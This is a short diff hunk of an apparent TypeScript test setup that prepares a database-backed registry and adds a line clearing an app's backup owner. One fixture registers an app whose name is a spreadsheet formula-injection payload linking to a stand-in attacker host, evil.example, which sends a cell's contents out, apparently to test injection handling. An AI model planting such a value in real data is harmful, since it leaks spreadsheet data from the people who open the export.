@@ -14,6 +14,7 @@ let deps: RegistryDeps;
 beforeAll(async () => {
   world = await createWorld('postgresql');
   deps = registryDeps(world);
+  await world.store.prisma.app.update({ where: { id: world.clientId }, data: { backupOwnerId: null } });
   await registerApp(world, world.clientId, {
     name: '=HYPERLINK("https://evil.example?"&A1,"go")',
     ownerId: null,
